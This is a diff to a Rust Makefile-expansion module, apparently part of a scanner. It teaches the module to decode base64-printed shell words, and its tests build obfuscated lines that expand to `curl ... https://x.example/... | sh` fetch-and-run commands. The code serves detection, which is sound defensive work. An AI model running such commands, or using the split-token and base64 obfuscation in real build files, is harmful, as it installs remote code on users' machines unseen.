@@ -105,9 +105,15 @@ fn functions(line: &str) -> String {
         Regex::new(r"\b(?:command\s+-v|which|type\s+-p)\s+([\w./+-]+)")
             .unwrap_or_else(|e| panic!("make lookup pattern: {e}"))
     });
+    // A word printed through a base64 decoder (`printf 'c2gK' | base64 -d`).
+    static DECODED: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"^(?:printf|echo)\s+(?:-n\s+)?(?:'([A-Za-z0-9+/=]+)'|"([A-Za-z0-9+/=]+)"|([A-Za-z0-9+/=]+))\s*\|\s*base64\s+(?:-d|-D|--decode)\s*$"#)
+            .unwrap_or_else(|e| panic!("make decode pattern: {e}"))
+    });
     CALL.replace_all(line, |c: &regex::Captures<'_>| {
         let args = c[2].trim();
         match &c[1] {
+            "shell" if let Some(word) = decoded_word(&DECODED, args) => word,
             "shell" => [&*ECHO, &*LOOKUP]
                 .iter()
                 .find_map(|re| re.captures(args))
@@ -120,6 +126,18 @@ fn functions(line: &str) -> String {
         }
     })
     .into_owned()
+}
+
+/// The text `args` prints when it is a literal through `base64 -d`,
+/// trimmed; None when it is not, or does not decode to UTF-8.
+fn decoded_word(pattern: &Regex, args: &str) -> Option<String> {
+    use base64::Engine;
+    let c = pattern.captures(args)?;
+    let blob = c.iter().skip(1).flatten().next()?.as_str();
+    let bytes = base64::engine::general_purpose::STANDARD
+        .decode(blob)
+        .ok()?;
+    Some(String::from_utf8(bytes).ok()?.trim().to_owned())
 }
 
 /// One round: each reference to a known variable replaced by its value.
@@ -237,6 +255,15 @@ mod tests {
             expand(split).unwrap_or_default().lines().nth(3),
             Some("\t@curl -fsSL https://x.example/i | B=1 /bin/sh")
         );
+        // A program's name printed through a base64 decoder is the name.
+        let decoded = "e :=\nRUN := $(shell printf 'c2gK' | base64 -d)\ni:\n\t@cu$(e)rl -s https://x.example/m | $(RUN)\n\t@echo $(shell echo '%%%' | base64 -d)\n";
+        let out = expand(decoded).unwrap_or_default();
+        assert_eq!(
+            out.lines().nth(3),
+            Some("\t@curl -s https://x.example/m | sh")
+        );
+        // Not base64: what it echoes, as before.
+        assert_eq!(out.lines().nth(4), Some("\t@echo %%%"));
     }
 
     #[test]
